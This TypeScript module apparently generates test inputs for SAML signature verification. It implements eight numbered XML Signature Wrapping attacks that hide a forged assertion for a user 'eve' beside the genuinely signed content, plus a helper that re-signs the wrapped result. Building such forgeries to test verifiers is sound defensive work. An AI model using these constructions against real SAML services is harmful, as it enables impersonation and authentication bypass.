import { type ResponseValues, signed } from './saml.response.ts';

/** Parts of a correctly signed response. */
interface Parts {
  response: string;
  assertion: string;
  /** Signature of the response. */
  signature: string;
  /** Signature of the assertion. */
  inner: string;
}

const SIGNATURE = /<(?:ds:)?Signature\b.*?<\/(?:ds:)?Signature>/s;

function partsOf(response: string): Parts {
  const assertion = /<saml:Assertion\b.*<\/saml:Assertion>/s.exec(response)?.[0] ?? '';
  const inner = SIGNATURE.exec(assertion)?.[0] ?? '';
  const signature = SIGNATURE.exec(response.replace(assertion, ''))?.[0] ?? '';
  if (assertion === '' || inner === '' || signature === '') throw new Error('The response is not signed as expected.');
  return { response, assertion, signature, inner };
}

type Attack = (parts: Parts, evil: (xml: string) => string) => string;

const inObject = (signature: string, content: string) =>
  signature.replace(/<\/((?:ds:)?)Signature>$/, (end, prefix: string) => `<${prefix}Object>${content}</${prefix}Object>${end}`);
const inSignature = (signature: string, content: string) => signature.replace(/<\/(?:ds:)?Signature>$/, (end) => `${content}${end}`);

/** The eight known attacks by signature wrapping, under their usual numbers. */
const WRAPPINGS: Readonly<Record<number, Attack>> = {
  1: ({ response, signature }, evil) =>
    evil(response).replace(evil(signature), () => inSignature(signature, response.replace(signature, ''))),
  2: ({ response, signature }, evil) => evil(response).replace(evil(signature), () => `${response.replace(signature, '')}${signature}`),
  3: ({ response, assertion, inner }, evil) => response.replace(assertion, () => `${evil(assertion.replace(inner, ''))}${assertion}`),
  4: ({ response, assertion, inner }, evil) =>
    response.replace(assertion, () => evil(assertion.replace(inner, '')).replace(/<\/saml:Assertion>$/, (end) => `${assertion}${end}`)),
  5: ({ response, assertion, inner }, evil) =>
    response.replace(assertion, () => `${evil(assertion).replace(evil(inner), () => inner)}${assertion.replace(inner, '')}`),
  6: ({ response, assertion, inner }, evil) =>
    response.replace(assertion, () => evil(assertion).replace(evil(inner), () => inSignature(inner, assertion.replace(inner, '')))),
  7: ({ response, assertion, inner }, evil) =>
    response.replace(assertion, () => `<samlp:Extensions>${evil(assertion.replace(inner, ''))}</samlp:Extensions>${assertion}`),
  8: ({ response, assertion, inner }, evil) =>
    response.replace(assertion, () => evil(assertion).replace(evil(inner), () => inObject(inner, assertion.replace(inner, '')))),
};

export const WRAPPING_NUMBERS = Object.keys(WRAPPINGS).map(Number);

/** Response of a wrapping attack: what the provider signed is still in it, beside an assertion of another person. */
export function wrapped(number: number, response: string, { id, nameId }: Pick<ResponseValues, 'id' | 'nameId'>): string {
  const attack = WRAPPINGS[number];
  if (!attack) throw new Error(`There is no attack ${number}.`);
  const evil = (xml: string) => xml.replaceAll(id, '_evil').replaceAll(`>${nameId}<`, '>eve<');
  return attack(partsOf(response), evil);
}

/** Wrapping attack inside a response that the provider itself signs, as if it let others add content before it signs. */
export function wrappedAndSigned(number: number, response: string, values: Pick<ResponseValues, 'id' | 'nameId'>): string {
  return signed(wrapped(number, response, values).replace(partsOf(response).signature, ''), 'Response');
}
